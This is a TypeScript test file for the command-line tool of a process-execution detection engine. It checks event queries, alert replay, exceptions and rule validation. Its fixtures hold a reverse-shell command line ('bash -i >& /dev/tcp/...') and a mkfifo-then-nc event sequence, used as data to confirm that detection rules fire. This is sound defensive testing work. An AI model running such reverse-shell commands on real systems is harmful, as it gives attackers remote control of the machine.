import { mkdtempSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { CommandIo } from '../../src/cli/io.js';
import { queryAction } from '../../src/cli/query.js';
import { replayAction } from '../../src/cli/replay.js';
import { rulesListAction, rulesTestAction, rulesValidateAction } from '../../src/cli/rules.js';
import { execEvent } from '../rules/support/exec-event.js';
import { edit, VALID_RULE } from '../rules/fixtures.js';
import { TextSink as Sink } from '../support/helpers.js';

function io(stdinText?: string): CommandIo & { stdout: Sink; stderr: Sink } {
  const stdin = new PassThrough();
  if (stdinText !== undefined) stdin.end(stdinText);
  return { stdout: new Sink(), stderr: new Sink(), stdin };
}

const dir = mkdtempSync(join(tmpdir(), 'execwarden-cli-'));
const reverseShell = execEvent({ name: 'setsid', args: ['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'], sequence: 3 });
const ls = execEvent({ name: 'ls', args: ['ls', '-la'], sequence: 1 });
const mkfifo = execEvent({ name: 'mkfifo', args: ['mkfifo', '/tmp/f'], parent: { name: 'sh', args: ['sh'], entityId: 'p1' }, sequence: 2 });
const nc = execEvent({ name: 'nc', args: ['nc', 'h', '1'], parent: { name: 'sh', args: ['sh'], entityId: 'p1' }, sequence: 4 });
const eventsFile = join(dir, 'events.ndjson');
writeFileSync(eventsFile, [ls, mkfifo, '{not json', reverseShell, '[1,2]', '', nc].map((e) => (typeof e === 'string' ? e : JSON.stringify(e))).join('\n') + '\n');

describe('query', () => {
  it('prints matching events as JSON lines and reports malformed lines with their number', async () => {
    const out = io();
    const result = await queryAction({ query: 'process where process.name in ("setsid", "ls")', files: [eventsFile] }, out);
    expect(result).toEqual({ exitCode: 0, events: 4, matches: 2, malformed: 2 });
    expect(out.stdout.lines().map((l) => JSON.parse(l).process.name)).toEqual(['ls', 'setsid']);
    expect(out.stderr.lines()).toEqual([
      `execwarden: ${eventsFile}:3: skipped malformed line: not JSON (${(() => { try { JSON.parse('{not json'); } catch (e) { return (e as Error).message; } return ''; })()})`,
      `execwarden: ${eventsFile}:5: skipped malformed line: not a JSON object`,
    ]);
  });

  it('prints sequences as join keys and events, reading stdin', async () => {
    const out = io([mkfifo, nc].map((e) => JSON.stringify(e)).join('\n'));
    const result = await queryAction({ query: 'sequence by process.parent.entity_id [process where process.name == "mkfifo"] [process where process.name == "nc"]', files: ['-'] }, out);
    expect(result.matches).toBe(1);
    const match = JSON.parse(out.stdout.lines()[0]!);
    expect(match.join_keys).toEqual(['p1']);
    expect(match.events.map((e: { process: { name: string } }) => e.process.name)).toEqual(['mkfifo', 'nc']);
  });

  it('exits 2 with the caret message on a bad query', async () => {
    const out = io('');
    const result = await queryAction({ query: 'process wher true', files: [] }, out);
    expect(result.exitCode).toBe(2);
    expect(out.stderr.text).toMatch(/^execwarden: query error: EQL\d{4} .* at 1:9\nprocess wher true\n {8}\^/);
    expect(out.stdout.text).toBe('');
  });
});

describe('replay', () => {
  it('prints an alert per match with the bundled rules by default', async () => {
    const out = io();
    const result = await replayAction({ files: [eventsFile], clock: { nowMs: () => 0 } }, out);
    expect(result).toMatchObject({ exitCode: 0, events: 4, alerts: 2, suppressed: 0, malformed: 2 });
    const alerts = out.stdout.lines().map((l) => JSON.parse(l));
    expect(alerts.map((a) => a.rule.name)).toEqual(['Potential Reverse Shell via Background Process', 'Named Pipe Followed by a Network Tool']);
    expect(alerts.every((a) => a.event.kind === 'alert' && a['@timestamp'] === '1970-01-01T00:00:00.000Z')).toBe(true);
    expect(out.stderr.lines().at(-1)).toContain('replayed 4 events');
  });

  it('applies an exceptions file', async () => {
    const exceptions = join(dir, 'exceptions.toml');
    writeFileSync(exceptions, `[[exception]]\nrule_id = "*"\nquery = 'process.parent.entity_id == "p1"'\ncomment = "test"\n`);
    const out = io();
    const result = await replayAction({ files: [eventsFile], exceptions }, out);
    expect(result).toMatchObject({ alerts: 1, suppressed: 1 });
  });

  it('stops with exit 1 and the diagnostics when rules are broken', async () => {
    const bad = join(dir, 'bad.toml');
    writeFileSync(bad, edit(VALID_RULE, 'severity = "medium"', 'severity = "severe"'));
    const out = io();
    const result = await replayAction({ files: [eventsFile], rules: [bad] }, out);
    expect(result.exitCode).toBe(1);
    expect(out.stderr.text).toContain(`${bad}:16:1: error RULE0203`);
    expect(out.stdout.text).toBe('');
  });
});

describe('rules validate / list / test', () => {
  it('validate passes the bundled rules', async () => {
    const out = io();
    const result = await rulesValidateAction({ paths: [] }, out);
    expect(result).toMatchObject({ exitCode: 0, errors: 0, warnings: 0 });
    expect(out.stdout.lines().at(-1)).toMatch(/^\d+ rules from \d+ files: 0 errors, 0 warnings, 0 skipped$/);
  });

  it('validate prints every diagnostic and exits 1', async () => {
    const broken = join(dir, 'broken');
    mkdirSync(broken);
    writeFileSync(join(broken, 'a.toml'), edit(edit(VALID_RULE, 'risk_score = 47', 'risk_score = 470'), 'name = "Whoami from a web server"\n', ''));
    writeFileSync(join(broken, 'b.toml'), 'x = ');
    const out = io();
    const result = await rulesValidateAction({ paths: [broken] }, out);
    expect(result.exitCode).toBe(1);
    expect(result.errors).toBe(3);
    const lines = out.stdout.lines();
    expect(lines.filter((l) => / error RULE\d{4} /.test(l))).toHaveLength(3);
    expect(lines.some((l) => l.startsWith(`${join(broken, 'b.toml')}:1:`))).toBe(true);
  });

  it('list prints id, severity, tactics and name', async () => {
    const out = io();
    const result = await rulesListAction({ paths: [] }, out);
    expect(result.exitCode).toBe(0);
    const lines = out.stdout.lines();
    expect(lines[0]).toMatch(/^RULE ID\s+SEVERITY\s+TACTICS\s+NAME$/);
    expect(lines.find((l) => l.startsWith('259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39'))).toMatch(/medium\s+Execution, Command and Control\s+Potential Reverse Shell via Background Process$/);
    expect(lines).toHaveLength(result.rules + 1);
    const json = io();
    await rulesListAction({ paths: [], json: true }, json);
    expect(JSON.parse(json.stdout.lines()[0]!)).toHaveProperty('tactics');
  });

  it('test runs the bundled cases and reports a failing case with its line', async () => {
    const out = io();
    const result = await rulesTestAction({ paths: [] }, out);
    expect(result).toMatchObject({ exitCode: 0, failed: 0, untested: 0 });
    expect(result.cases).toBeGreaterThan(40);

    const own = join(dir, 'own');
    mkdirSync(join(own, 'tests'), { recursive: true });
    writeFileSync(join(own, 'whoami.toml'), VALID_RULE);
    const whoami = execEvent({ name: 'whoami', args: ['whoami'], parent: { name: 'nginx', args: ['nginx'] } });
    writeFileSync(join(own, 'tests', 'whoami.ndjson'), `${JSON.stringify({ name: 'right', expect: true, event: whoami })}\n${JSON.stringify({ name: 'wrong', expect: false, event: whoami })}\n`);
    const failing = io();
    const failed = await rulesTestAction({ paths: [own] }, failing);
    expect(failed).toMatchObject({ exitCode: 1, cases: 2, passed: 1, failed: 1 });
    expect(failing.stdout.text).toContain(`${join(own, 'tests', 'whoami.ndjson')}:2: wrong: expected no match, got a match`);
  });
});
